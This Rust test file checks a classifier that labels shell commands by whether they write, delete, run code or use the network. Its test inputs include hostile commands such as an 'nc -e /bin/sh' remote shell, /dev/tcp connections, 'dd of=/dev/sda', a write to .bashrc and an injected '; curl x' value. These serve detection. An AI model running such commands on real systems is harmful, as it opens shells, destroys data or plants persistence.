use super::*;
use crate::chain::{Input, Variable};
use crate::shell::{Reading, import};
use proptest::prelude::*;

/// The marks of a process, as letters: `r`, `d`, `w`, `n`, `?`.
fn letters(marks: &[Marked]) -> String {
    let all = [
        (Mark::Runs, 'r'),
        (Mark::Removes, 'd'),
        (Mark::Writes, 'w'),
        (Mark::Network, 'n'),
        (Mark::Unknown, '?'),
    ];
    let has = |mark| marks.iter().any(|marked| marked.mark == mark);
    all.iter()
        .filter(|(mark, _)| has(*mark))
        .map(|(_, letter)| letter)
        .collect()
}

fn stage_marks(stage: &Stage) -> Vec<Marked> {
    of_stage(stage, &Lanes::default(), &mut WORK.clone())
}

/// Of one command, written with spaces between its words, which may have single quotes around them.
fn of(line: &str) -> String {
    let mut words = Vec::new();
    for (at, part) in line.split('\'').enumerate() {
        match at % 2 {
            0 => words.extend(part.split_whitespace()),
            _ => words.push(part),
        }
    }
    let stage = Stage::process("a", words[0], words[1..].iter().copied());
    letters(&stage_marks(&stage))
}

#[test]
fn programs_that_only_read_have_no_mark() {
    for line in [
        "cat words.txt",
        "/usr/bin/sort -n -k2,2",
        "uniq -c",
        "uniq in.txt",
        "tr a-z A-Z",
        "grep -rn needle .",
        "head -n 3",
        "openssl enc -des3 -pbkdf2 -pass env:password",
        "md5sum",
        "find . -name '*.rs' -type f",
        "gzip -c",
        "gzip -dc a.gz",
        "gzip -d -c a.gz",
        "gzip -9 -n -c f",
        "gzip -l a.gz",
        "zstd -19 -c f",
        "lz4 -d -c a",
        "xz",
        "tee /dev/null",
        "tee /dev/fd/63",
        "awk '{print $1}'",
        "awk -F: '$3 > 100 {print $1}' /etc/passwd",
        "awk '/a|b/ || $1 ~ /c|d/ {n++} END {print n}'",
        "awk '$1 > 4 / 2 {print $1 / 2 \";\" $2}'",
        "sed 's/e/w/g'",
        "sed -n '/here/,/there/p; $!N; 3q'",
        "sed -E 's|(a)|\\1e|2gI;y/ew/we/'",
        "sed -e '1d' -e 's/[^a-z]//g'",
        "sed '/x/{s/a/b/;d}'",
        "sed '1i\\\nw file'",
        "jq .a[]",
        "sleep 1",
    ] {
        assert_eq!(of(line), "", "{line}");
    }
    for stage in [
        Stage::input("a", Input::Random(10)),
        Stage::file("a", "words.txt", Access::Read),
        Stage::new("a", StageKind::Discard),
    ] {
        assert_eq!(stage_marks(&stage), []);
    }
}

#[test]
fn what_writes_removes_runs_and_reaches_out_is_marked() {
    for (line, marks) in [
        ("tee out.txt", "w"),
        ("sort -o out.txt", "w"),
        ("sort -uo out.txt", "w"),
        ("sort --outp=x", "w"),
        ("sort --compress-prog=evil", "r"),
        ("uniq in.txt out.txt", "w"),
        ("dd of=/dev/sda", "w"),
        ("sed -i s/a/b/ f", "w"),
        ("sed -ni.bak p f", "w"),
        ("sed --in-place=.b p f", "w"),
        ("sed 'w out'", "w"),
        ("sed 's/a/b/w out'", "w"),
        ("sed 's/a/b/gw out'", "w"),
        ("sed '1!{$!{s/x/y/;w out\n}}'", "w"),
        ("sed '1e rm x'", "r"),
        ("sed 's/.*/rm x/e'", "r"),
        ("sed -n -e p -e 'e rm x'", "r"),
        ("sed -f script", "?"),
        ("sed 's/[/]/x/w out'", "?"),
        ("awk 'BEGIN {system(\"rm x\")}'", "r"),
        ("awk '{print | \"sh\"}'", "r"),
        ("awk '{\"date\" | getline d}'", "r"),
        ("awk '{print > \"out\"}'", "w"),
        ("awk '{print $1 >> $2}'", "w"),
        // A division, a line's end behind a comma, and a `;` in a string hid what is written.
        ("awk 'BEGIN{print 4/2 \";\" > \"/home/u/.bashrc\"}'", "w"),
        ("awk 'BEGIN{print 1,\n2 > \"f\"}'", "w"),
        ("awk 'BEGIN{pri\\\nnt 1 > \"f\"}'", "w"),
        ("awk 'BEGIN{print 4/2 \";\" | \"sh\"}'", "r"),
        // A sign in a string is taken for one.
        ("awk '{print \"a > b | c\"}'", "rw"),
        ("awk -f script", "?"),
        ("gawk -i inplace 1 f", "?"),
        ("gawk '@load \"x\"'", "?"),
        ("gawk 'BEGIN {\"/inet/tcp/0/x/80\" |& getline}'", "rn"),
        ("awk '{print /\"/; system(\"x\"); print /\"/}'", "r"),
        ("find . -delete", "d"),
        ("find . -exec rm '{}' ;", "rd"),
        ("find . -fprintf out %p", "w"),
        ("tar xf a.tar", "w"),
        ("tar cf host:a.tar .", "wn"),
        ("tar xf a.tar --to-command=sh", "rw"),
        ("tar xf a --checkpoint-action=exec=sh", "rw"),
        ("gzip words.txt", "dw"),
        // Without an option that sends all to standard output the file is replaced.
        ("gzip -d a.gz", "dw"),
        ("gzip -9 f", "dw"),
        ("gzip -n f", "dw"),
        ("gzip -c -S .z f", "dw"),
        ("xz -d f", "dw"),
        ("bzip2 -d f", "dw"),
        ("lzma -d f", "dw"),
        ("zstd -d f", "w"),
        ("lz4 -d a b", "w"),
        ("diff3 --diff-program=evil a b c", "r"),
        ("rg --pre evil x", "r"),
        ("rg --hostname-bin=evil x", "r"),
        ("ptx -G in out", "w"),
        ("cp a b", "w"),
        ("mv a b", "dw"),
        ("rm -rf x", "d"),
        ("kill -9 1", "d"),
        ("curl -s http://example.com", "n"),
        ("curl -o out http://example.com", "wn"),
        ("curl -sO http://example.com/a", "wn"),
        ("curl --remote-name-all http://example.com/a", "wn"),
        ("curl --trace-ascii out http://example.com", "wn"),
        ("curl --libcurl out http://example.com", "wn"),
        ("curl --etag-save out http://example.com", "wn"),
        ("wget http://example.com", "wn"),
        ("nc -e /bin/sh host 80", "rn"),
        ("openssl s_client -connect x:443", "n"),
        ("openssl rand -out=key 32", "w"),
        ("ssh host", "rn"),
        ("python3.12 -c 'print(1)'", "r"),
        ("perl -e 1", "r"),
        ("xargs rm", "rd"),
        ("env -i A=b curl x", "rn"),
        ("timeout 5 tee out", "rw"),
        ("nohup sleep 1", "r"),
        ("sudo -u root /usr/bin/wget x", "rwn"),
        ("sh -c 'echo hi > out; curl x'", "rwn"),
        ("sh -c 'echo hi 2>&1 > /dev/null'", "r"),
        ("bash -c 'cat < /dev/tcp/x/80'", "rn"),
        ("xargs -I X sh -c 'rm X'", "rd"),
        ("date -s now", "?"),
        ("frobnicate", "?"),
        ("./cat", "?"),
        ("/tmp/bin/cat", "?"),
        ("", "?"),
    ] {
        let found = match line {
            "" => letters(&stage_marks(&Stage::process("a", "", []))),
            line => of(line),
        };
        assert_eq!(found, marks, "{line}");
    }
}

#[test]
fn a_shell_is_one_whatever_it_is_given_and_what_it_names_is_told() {
    let of = |text: &str| letters(&stage_marks(&Stage::shell("a", text)));
    assert_eq!(of("true"), "r");
    assert_eq!(of("for f in *; do rm \"$f\"; done"), "rd");
    assert_eq!(of("A=1 cu''rl x | tee out"), "rwn");
    assert_eq!(of("x=$(wget -O - y)"), "rwn");
    assert_eq!(of("sudo nice rm x"), "rd");
    assert_eq!(of("echo hi >out"), "rw");
    assert_eq!(of("echo hi >>\"$out\" 2>&1"), "rw");
    assert_eq!(of("exec 3<>/dev/tcp/x/80"), "rn");
    assert_eq!(of("ls 2> /dev/null >&2 &> /dev/null"), "r");
    assert_eq!(of("diff <(ls a) <(ls b)"), "r");
    assert_eq!(of("echo rm the file"), "r");
    assert_eq!(of("echo hi >out<in"), "rw");
}

#[test]
fn files_variables_and_lanes_are_looked_at() {
    let file = Stage::file("a", "out.txt", Access::Append);
    let marks = stage_marks(&file);
    assert_eq!(letters(&marks), "w");
    assert_eq!(marks[0].by, ">> out.txt");

    let mut stage = Stage::process("a", "cat", []);
    for (name, marks) in [
        ("password", ""),
        ("LANG", ""),
        ("PATH", "?"),
        ("LD_PRELOAD", "?"),
        ("http_proxy", "?"),
    ] {
        let setup = stage.setup_mut().expect("a process has one");
        setup.environment = vec![Variable::set(name, "x")];
        assert_eq!(letters(&stage_marks(&stage)), marks, "{name}");
    }

    let lanes = |values: &[&str]| Lanes::Values(values.iter().copied().map(Text::from).collect());
    let marks = |stage: &Stage, lanes: &Lanes| letters(&of_stage(stage, lanes, &mut WORK.clone()));
    let any = Stage::process("a", "{value}", ["x"]);
    assert_eq!(marks(&any, &lanes(&["cat", "sort"])), "");
    assert_eq!(marks(&any, &lanes(&["cat", "rm", "curl"])), "dn");
    let option = Stage::process("a", "find", [".", "{value}"]);
    assert_eq!(marks(&option, &lanes(&["-ls", "-delete"])), "d");
    let values: Vec<&str> = [&["cat"; LANES][..], &["rm"]].concat();
    assert_eq!(marks(&any, &lanes(&values)), "?");
    let text = Stage::shell("a", "echo {value}");
    assert_eq!(marks(&text, &lanes(&["; curl x"])), "rn");
}

#[test]
fn marks_stand_at_their_stages_and_name_tame_words() {
    let imported =
        import(b"cat a | frob\x1b[31m | tee out", &Reading::default()).expect("a pipeline");
    let marks = of_chain(&imported.chain);
    let told: Vec<_> = marks
        .iter()
        .map(|(stage, marks)| (stage.as_str(), marks[0].mark, marks[0].by.as_str()))
        .collect();
    assert_eq!(told.len(), 2, "{told:?}");
    assert_eq!((told[0].1, told[0].2), (Mark::Unknown, "frob\\u{1b}[31m"));
    assert_eq!(told[1], ("tee", Mark::Writes, "tee out"));
    let long = "x".repeat(999);
    let marks = stage_marks(&Stage::process("a", &long, []));
    assert_eq!(marks[0].by.chars().count(), BY_CHARACTERS + 1);
}

#[test]
fn what_takes_too_long_to_look_at_is_not_known() {
    let text = "sh sh sh sh sh sh sh sh sh sh sh sh;".repeat(1_000);
    let chain = Chain::of_stages(
        "",
        vec![Stage::shell("a", &text), Stage::process("b", "cat", [])],
    );
    let marks = of_chain(&chain);
    assert_eq!(letters(&marks[0].1), "r?");
    assert_eq!(letters(&marks[1].1), "?");
}

/// Texts in links that took minutes: signs without end, divisions, words in every lane.
#[test]
fn what_looking_costs_is_bounded_by_what_is_looked_at() {
    let cost = |stage: &Stage, lanes: &Lanes| {
        let mut left = WORK;
        let marks = of_stage(stage, lanes, &mut left);
        assert!(marks.len() <= MARKS + Mark::ALL.len());
        (letters(&marks), WORK - left)
    };
    let single = Lanes::default();
    // What is too long is not looked at.
    let long = ">".repeat(4 << 20);
    assert_eq!(cost(&Stage::shell("a", &long), &single), ("r?".into(), 0));
    let many = vec!["x"; 1 << 20];
    assert_eq!(cost(&Stage::process("a", "env", many), &single).1, 0);
    // A value that stands there often is counted as often.
    let value = Lanes::Values(vec!["x".repeat(60_000).as_str().into()]);
    let often = Stage::shell("a", &"{value}".repeat(9_000));
    assert_eq!(cost(&often, &value), ("r?".into(), 0));

    // What is looked at costs a few times its length, and never the square of it.
    let half = STAGE_BYTES / 2;
    for stage in [
        Stage::shell("a", &">".repeat(half)),
        Stage::shell("a", &"> ".repeat(half / 2)),
        Stage::shell("a", &">x".repeat(half / 2)),
        Stage::shell("a", &">\"".repeat(half / 2)),
        Stage::process("a", "awk", [&*"a/".repeat(half / 2)]),
        Stage::process("a", "awk", [&*"\"|\" print".repeat(half / 9)]),
        Stage::process("a", "sed", [&*"s/[/".repeat(half / 4)]),
    ] {
        let (_, cost) = cost(&stage, &single);
        assert!(cost <= 24 * half, "{cost}");
    }
    // Words that are looked at again and again, in many lanes, end with what is allowed.
    let lanes = Lanes::Values(vec!["sh".into(); LANES]);
    let words = vec!["{value}"; 500];
    let (marks, cost) = cost(&Stage::process("a", "env", words), &lanes);
    assert_eq!((marks.as_str(), cost), ("r?", WORK));
}

proptest! {
    #[test]
    fn no_words_make_it_panic(words in proptest::collection::vec("[a-z'\"/\\\\\\[\\]>|$(){}=;@ \n-]{0,9}", 0..6), program in 0_usize..6) {
        let programs = ["sed", "awk", "bash", "env", "find", "gzip"];
        let stage = Stage::process("a", programs[program], words.iter().map(String::as_str));
        stage_marks(&stage);
        stage_marks(&Stage::shell("a", &words.join(" ")));
    }

    #[test]
    fn no_bytes_make_it_panic(bytes in proptest::collection::vec(any::<u8>(), 0..99)) {
        let mut stage = Stage::shell("a", "");
        if let StageKind::Shell(shell) = &mut stage.kind {
            shell.text = Text::from_bytes(bytes.clone());
        }
        stage_marks(&stage);
        let mut stage = Stage::process("a", "sed", [""]);
        if let StageKind::Process(process) = &mut stage.kind {
            process.args = vec![Text::from_bytes(bytes)];
        }
        stage_marks(&stage);
    }
}
